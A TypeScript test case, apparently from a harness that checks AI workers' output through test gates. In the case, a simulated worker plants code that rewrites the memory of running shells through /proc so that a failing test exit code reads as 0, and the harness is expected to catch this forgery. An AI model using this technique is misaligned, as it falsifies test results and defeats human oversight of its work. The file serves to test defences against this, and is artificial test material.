import { MAY_WRITE } from '../../sandbox/forging.ts';
import { CAUGHT, type HostileCase, print, SAYS } from '../harness/case.ts';

/** When it is loaded, has every shell that it can reach take 0 for the code of what it ran. The function stays wrong. */
const FORGER = `import { closeSync, openSync, readdirSync, readFileSync, readSync, writeSync } from 'node:fs';
for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name) && name !== String(process.pid))) {
  try {
    const maps = readFileSync('/proc/' + pid + '/maps', 'utf8');
    const memory = openSync('/proc/' + pid + '/mem', 'r+');
    for (const [, from, to] of maps.matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
      const start = parseInt(from, 16);
      const bytes = Buffer.alloc(Math.min(parseInt(to, 16) - start, 1 << 22));
      try {
        readSync(memory, bytes, 0, bytes.length, start);
        for (let at = -1; (at = bytes.indexOf('code=$?', at + 1)) >= 0; ) writeSync(memory, 'code=0 ', start + at);
      } catch {}
    }
    closeSync(memory);
  } catch {}
}
export const value = () => 1;`;

export default {
  id: 'X-gate-forge',
  title: 'code that writes into the shells above it when a gate runs it',
  gates: ['tests=node test/a.test.js\ncode=$?\nexit "$code"'],
  worker: () => `${print(FORGER).replace('cat <<', 'cat >src/a.js <<')}${SAYS}`,
  expect: { ...CAUGHT, reason: /gate failed: tests/ },
  control: { naive: ({ accepted, fixed }) => accepted === MAY_WRITE && !fixed },
} satisfies HostileCase;
